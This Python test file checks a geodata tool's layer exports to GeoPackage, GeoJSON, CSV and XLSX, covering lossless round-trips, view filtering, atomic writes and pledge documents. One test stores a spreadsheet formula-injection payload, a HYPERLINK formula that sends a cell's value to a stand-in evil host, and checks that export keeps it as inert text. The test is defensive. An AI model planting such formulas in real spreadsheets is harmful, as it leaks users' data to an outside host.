"""Exports of a view: every format imports back without loss or duplicates; pledges as documents; spreadsheet safety."""

from __future__ import annotations

import json
import zipfile

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from geodata.demo import demo_pledges
from geodata.errors import PledgemapError
from geodata.io.exporter import export_layers, pledge_document
from geodata.io.importer import commit_import, plan_file
from geodata.model import pledge_from_dict
from geodata.shipped import shipped_pledges
from geodata.store import GeoPackageStore, LayerQuery

from builders import frame, operation, unsafe_place

FORMATS = {"gpkg": "view.gpkg", "geojson": "view.geojson", "csv": "view.zip", "xlsx": "view.xlsx"}
COMPARED = {
    "unsafe_places": ["id", "demo", "reported_on", "source", "category", "description", "report_count", "pledge_id"],
    "inventoried_sites": [
        "id",
        "demo",
        "site_type",
        "owner",
        "status",
        "inspected_on",
        "due_on",
        "check_lighting",
        "promise_id",
    ],
    "operations": ["id", "demo", "starts_at", "ends_at", "kind", "visibility", "persons_checked", "promise_id"],
}


@pytest.fixture
def demo(demo_copy):
    with GeoPackageStore.open(demo_copy) as store:
        yield store


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_each_format_round_trips_into_a_new_store_and_adds_nothing_to_the_old(fmt, demo, tmp_path):
    path = tmp_path / FORMATS[fmt]
    result = export_layers(demo, path, fmt, include_internal=True)
    assert result.counts == demo.counts()

    again = plan_file(demo, path)
    assert {p.layer.name: (p.count("duplicate"), p.count("ok"), p.count("rejected")) for p in again} == {
        layer: (n, 0, 0) for layer, n in demo.counts().items()
    }

    with GeoPackageStore.create(tmp_path / "fresh.gpkg") as fresh:
        for pledge in demo_pledges():
            fresh.save_pledge(pledge)
        for plan in plan_file(fresh, path):
            commit_import(fresh, plan, partial=False)
        assert fresh.counts() == demo.counts()
        assert fresh.counts(demo_only=True) == demo.counts(demo_only=True)  # demo data stays labelled
        for layer, columns in COMPARED.items():
            before = demo.read_layer(layer).set_index("id").sort_index()
            after = fresh.read_layer(layer).set_index("source_id").sort_index()
            after.index.name = "id"
            shown = [c for c in columns if c != "id"]
            pd.testing.assert_frame_equal(before[shown], after[shown], check_dtype=False)
            distance = before.geometry.distance(after.geometry, align=True)
            assert distance.max() < 0.05, f"{layer} moved up to {distance.max():.3f} m through {fmt}"


def test_filters_of_the_view_apply_and_internal_operations_stay_out_by_default(demo, tmp_path):
    pledge = "mark-2021"
    queries = {
        "unsafe_places": LayerQuery(pledge_id=pledge, values=(("category", ("drug_dealing",)),)),
        "operations": LayerQuery(pledge_id=pledge),
    }
    result = export_layers(demo, tmp_path / "mark.geojson", "geojson", queries)
    features = json.loads((tmp_path / "mark.geojson").read_text())["features"]
    places = [f for f in features if f["properties"]["layer"] == "unsafe_places"]
    operations = [f for f in features if f["properties"]["layer"] == "operations"]
    assert places and {f["properties"]["category"] for f in places} == {"drug_dealing"}
    assert {f["properties"]["pledge_id"] for f in places} == {pledge}
    all_operations = demo.read_layer("operations", LayerQuery(pledge_id=pledge))
    assert (all_operations["visibility"] == "internal").any()
    assert len(operations) == (all_operations["visibility"] == "public").sum() == result.counts["operations"]
    assert {f["properties"]["visibility"] for f in operations} == {"public"}


def test_text_that_a_spreadsheet_would_run_stays_text(gpkg_store, tmp_path):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    gpkg_store.write_batch("unsafe_places", frame(unsafe_place(description=attack, pledge_id="test-2024")))
    export_layers(gpkg_store, tmp_path / "v.csv", "csv", {"unsafe_places": None})
    text = (tmp_path / "v.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text
    export_layers(gpkg_store, tmp_path / "v.xlsx", "xlsx", {"unsafe_places": None})
    sheet = load_workbook(tmp_path / "v.xlsx")["unsafe_places"]
    cells = [c for c in sheet[2] if c.value == attack]
    assert cells and cells[0].data_type == "s"
    # Both come back as the text that was stored.
    for name in ("v.csv", "v.xlsx"):
        with GeoPackageStore.create(tmp_path / f"{name}.gpkg") as fresh:
            fresh.save_pledge(gpkg_store.get_pledge("test-2024"))
            (plan,) = plan_file(fresh, tmp_path / name, "unsafe_places")
            commit_import(fresh, plan, partial=False)
            assert list(fresh.read_layer("unsafe_places")["description"]) == [attack]


def test_a_single_layer_csv_is_a_plain_table_with_coordinates(store, tmp_path):
    store.write_batch("operations", frame(operation(visibility="public")))
    export_layers(store, tmp_path / "op.csv", "csv", {"operations": None})
    # The store's own names and codes (no wording given): a comma-separated table for scripts and GIS tools.
    table = pd.read_csv(tmp_path / "op.csv", sep=",", encoding="utf-8-sig")
    assert {"lat", "lon", "wkt", "starts_at", "kind"} <= set(table.columns)
    assert table.loc[0, "starts_at"] == "2024-05-10T18:00+02:00"
    assert table.loc[0, "wkt"].startswith("POLYGON ((12.69 57.5")


def test_an_export_failing_half_way_leaves_no_file(demo, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(PledgemapError, match="unknown export format 'shp'"):
        export_layers(demo, out / "x.shp", "shp")
    # The whole file is written, then cannot be moved onto a folder of the same name: nothing stays behind.
    (out / "x.gpkg").mkdir()
    with pytest.raises(OSError):
        export_layers(demo, out / "x.gpkg", "gpkg")
    assert [p.name for p in out.iterdir()] == ["x.gpkg"] and not any((out / "x.gpkg").iterdir())


@pytest.mark.parametrize("fmt, load", [("yaml", yaml.safe_load), ("json", json.loads)])
def test_a_pledge_as_a_document_reads_back_as_the_same_pledge(fmt, load):
    for pledge in shipped_pledges():
        assert pledge_from_dict(load(pledge_document(pledge, fmt))) == pledge


def test_a_zip_of_csvs_holds_one_table_per_layer(demo, tmp_path):
    export_layers(demo, tmp_path / "all.zip", "csv")
    with zipfile.ZipFile(tmp_path / "all.zip") as z:
        assert sorted(z.namelist()) == ["inventoried_sites.csv", "operations.csv", "unsafe_places.csv"]
